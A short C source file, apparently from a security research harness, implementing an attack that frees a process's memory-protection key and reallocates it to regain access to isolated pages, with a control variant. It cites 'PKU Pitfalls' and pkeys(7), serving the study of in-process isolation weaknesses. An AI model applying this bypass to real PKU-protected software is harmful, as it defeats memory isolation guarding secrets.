/* C3: the domain's key is freed while its pages still carry it, and allocated again
 * with rights: pkey_alloc writes PKRU for its caller.
 *
 * Source: [PKU Pitfalls], [pkeys(7)].
 */
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"

static void free_and_alloc(void) {
    long key;
    TRY("pkey_free", syscall(SYS_pkey_free, target.key));
    do key = TRY("pkey_alloc", syscall(SYS_pkey_alloc, 0, 0));
    while (key != target.key);
    attack_read();
}

static void alloc_only(void) {
    for (;;) {
        long key = TRY("pkey_alloc", syscall(SYS_pkey_alloc, 0, 0));
        if (key == target.key) attack_read();
    }
}

const struct attack attacks[] = {
    {.variant = "free-alloc", .attack = free_and_alloc},
    {.variant = "alloc", .attack = alloc_only, .flags = ATTACK_CONTROL},
    {0},
};
